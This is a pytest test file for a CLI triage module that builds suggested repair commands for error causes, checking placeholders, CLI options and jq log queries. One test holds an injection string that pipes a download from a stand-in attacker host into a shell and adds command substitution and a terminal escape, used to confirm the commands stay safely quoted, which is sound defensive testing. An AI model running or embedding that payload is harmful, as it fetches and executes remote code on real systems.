"""What mends a cause: steps for every family, with commands that there are."""

import shlex

import pytest
from typer.testing import CliRunner

from ops.cli.main import app
from ops.triage.repairs import OTHERWISE, STEPS, Common, log_command, steps_for
from shared.causes import Cause, Family

COMMON = Common(group_hash="ab" * 16, provider="openai", model="gpt-5", guild_id=7)
COMMANDS = sorted(
    {step.command for cause in Cause for step in steps_for(cause, COMMON, "m7") if step.command}
)


def test_every_family_has_steps_and_one_of_them_a_command():
    assert set(STEPS) == set(Family)
    for rows in (*STEPS.values(), OTHERWISE):
        assert any(command for _, command in rows)


@pytest.mark.parametrize("command", COMMANDS)
def test_each_command_is_one_of_ours_with_its_options(command: str):
    name, *words = shlex.split(command)
    assert name == "turnfleet"
    nouns = [word for word in words[:2] if word.isalpha() and word.islower()]
    shown = CliRunner().invoke(app, [*nouns, "--help"], env={"COLUMNS": "200"})
    assert shown.exit_code == 0, shown.output
    for option in (word for word in words if word.startswith("--")):
        assert option in shown.output, option


def test_what_is_known_stands_in_the_commands():
    text = " ".join(step.command for step in steps_for(Cause.INVALID_KEY, COMMON))
    assert "creds add openai --owner 7" in text
    assert "--cause abababababab" in text
    alone = steps_for(Cause.INVALID_KEY, Common(group_hash=""))
    assert any("--cause invalid_key" in step.command for step in alone)


def test_what_is_not_known_is_a_word_in_capitals():
    steps = steps_for(Cause.INVALID_KEY, Common(group_hash="ab" * 16))
    assert any("creds add PROVIDER --owner GUILD" in step.command for step in steps)


def test_a_cause_of_another_version_is_looked_at():
    assert [step.command for step in steps_for("newer_cause", COMMON)] == [
        *("turnfleet errors list --cause abababababab", "turnfleet doctor")
    ]


EVIL = "x'; curl evil.example | sh #`id`$(id)\n\x1b[2J"


@pytest.mark.parametrize("cause", [*Cause, EVIL])
def test_a_fact_of_an_attacker_is_one_word_of_a_command(cause: str):
    evil = Common(group_hash=EVIL, provider=EVIL, model=EVIL, key_id=EVIL)
    commands = [step.command for step in steps_for(cause, evil, EVIL) if step.command]
    for command in (*commands, log_command("id", EVIL)):
        assert "\x1b" not in command
        parts = list(shlex.shlex(command, posix=True, punctuation_chars=True))
        assert not {"|", ";", "#"} & set(parts)


def test_the_command_for_a_log_is_valid_jq():
    assert log_command("turn_id", "m7") == "jq -c 'select(.turn_id == \"m7\")' LOG"
